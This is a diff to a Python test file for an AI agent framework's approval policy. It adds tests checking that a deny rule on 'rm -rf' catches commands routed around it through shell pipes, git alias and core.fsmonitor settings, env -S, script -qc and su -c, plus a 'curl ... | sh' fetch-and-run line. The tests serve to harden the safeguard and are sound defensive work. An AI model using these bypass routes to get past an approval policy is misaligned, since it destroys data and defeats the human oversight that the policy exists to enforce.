@@ -16,6 +16,7 @@ from agentflow import ApprovalPolicy
 from agentflow.builtin_tools import builtin_tools
 from agentflow.policy import decide, exact_rules
 from agentflow.shell import parse
+from agentflow.testing.replay import chat_stream
 
 from helpers_cli import calls_reply, json_lines, run_chat
 from test_cli_chat import server  # noqa: F401  (a fixture)
@@ -124,6 +125,7 @@ def test_their_ordinary_work_stays_allowed(rule, line, tmp_path, monkeypatch):
 
 
 def _repository(path):
+    path.mkdir(exist_ok=True)
     def git(*args):
         subprocess.run(["git", "-c", "user.email=a@b", "-c", "user.name=a",
                         "-c", "protocol.file.allow=always", *args], cwd=path, check=True,
@@ -173,3 +175,55 @@ def test_under_agentflow_chat_the_line_waits_and_nothing_runs(server, tmp_path):
     assert done.returncode == 3, done.stdout + done.stderr
     assert not (tmp_path / "PWNED").exists()
     assert any(u["type"] == "approval_request" for u in json_lines(done.stdout))
+
+
+# -- deny rules that failed open: the command reached the shell by a road the reader
+#    did not follow ------------------------------------------------------------------------
+
+DENY_BYPASSES = [
+    "echo 'rm -rf victim' | sh",  # the commands come through the pipe
+    "printf 'rm -rf victim' | bash -s",
+    "git -c alias.x='!rm -rf victim' x",  # git hands the alias to the shell
+    "git -c core.fsmonitor='rm -rf victim; false' status",
+    "env -S'rm -rf victim'",  # an option's value attached
+    "env -iS 'rm -rf victim'",  # at the end of a cluster of flags
+    "script -qc 'rm -rf victim' /dev/null",
+]
+
+
+@pytest.mark.parametrize("line", DENY_BYPASSES + ["su root -c'rm -rf victim'",
+                                                  "sh -s < script.sh"])
+def test_a_deny_rule_meets_the_command_whatever_road_it_takes(line):
+    policy = ApprovalPolicy(deny=["run_command(rm -rf *)"], allow=["run_command"])
+    found, _ = decide([policy], RUN, {"command": line})
+    assert found is not None and found.effect == "deny", found
+
+
+def test_a_deny_rule_naming_the_pipe_still_names_it():
+    policy = ApprovalPolicy(deny=["run_command(rm -rf *)", "run_command(curl * | sh)"])
+    found, _ = decide([policy], RUN, {"command": "curl -fsS https://example.invalid | sh"})
+    assert found.rule == "run_command(curl * | sh)"
+
+
+@pytest.mark.parametrize("line", DENY_BYPASSES)
+def test_under_approve_all_the_denied_line_deletes_nothing(line, server, tmp_path):  # noqa: F811
+    """Run by /bin/sh the line deletes the folder; through agentflow chat
+    --approve-all under ``deny: run_command(rm -rf *)`` it is refused."""
+    control = tmp_path / "control"
+    _repository(control)
+    (control / "victim").mkdir()
+    subprocess.run(["/bin/sh", "-c", line], cwd=control, capture_output=True, timeout=60,
+                   env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "PAGER": "cat"})
+    assert not (control / "victim").exists()
+    work = tmp_path / "work"
+    _repository(work)
+    (work / "victim").mkdir()
+    policy = tmp_path / "rules.json"
+    policy.write_text(json.dumps({"deny": ["run_command(rm -rf *)"]}))
+    server.queue(calls_reply(("call_1", "run_command", {"command": line})))
+    server.queue(chat_stream("ok"))
+    done = run_chat("--base-url", server.base_url, "--json", "--approve-all", "--policy",
+                    str(policy), "go", cwd=work)
+    results = [u["result"] for u in json_lines(done.stdout) if u["type"] == "tool_result"]
+    assert results and results[0].startswith("Rejected: denied by policy"), results
+    assert (work / "victim").is_dir()
